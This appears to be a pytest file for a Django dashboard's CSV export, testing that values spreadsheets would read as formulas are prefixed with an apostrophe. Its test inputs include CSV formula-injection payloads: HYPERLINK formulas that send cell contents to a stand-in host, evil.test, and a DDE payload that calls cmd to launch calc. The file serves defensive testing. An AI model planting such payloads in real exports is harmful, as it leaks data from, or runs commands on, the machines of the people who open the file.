"""CSV exports open in spreadsheets: caller-chosen text must never run as a formula."""
from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from dashboard import export
from spanlens.requestlog import queries
from tests.seed import make_row
from tests.test_dashboard_pages import body_of


def written(rows, columns) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(export.csv_lines(rows, columns)), newline="")))


@pytest.mark.parametrize("value", [
    '=HYPERLINK("https://evil.test/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1",
])
def test_cells_that_would_be_formulas_start_with_an_apostrophe(value):
    assert written([{"user_id": value}], ("user_id",)) == [["user_id"], ["'" + value]]


def test_plain_text_and_numbers_are_written_as_they_are():
    rows = [{"user_id": "alice", "latency_ms": -3, "cost_usd": 0.5, "flags": [{"type": "pii.email"}]}]
    assert written(rows, ("user_id", "latency_ms", "cost_usd", "flags"))[1] == [
        "alice", "-3", "0.5", '[{"type":"pii.email"}]']


def test_the_request_export_neutralises_a_formula_user_id(owner, org, project):
    attack = '=HYPERLINK("https://evil.test/steal?d="&B2,"invoice")'
    queries.insert_requests([make_row(org, project, user_id=attack, session_id="@cmd", model="-gpt")])
    client = Client()
    client.force_login(owner)
    [row] = list(csv.DictReader(io.StringIO(body_of(client.get("/requests/export.csv")).decode())))
    assert row["user_id"] == "'" + attack
    assert row["session_id"] == "'@cmd" and row["model"] == "'-gpt"
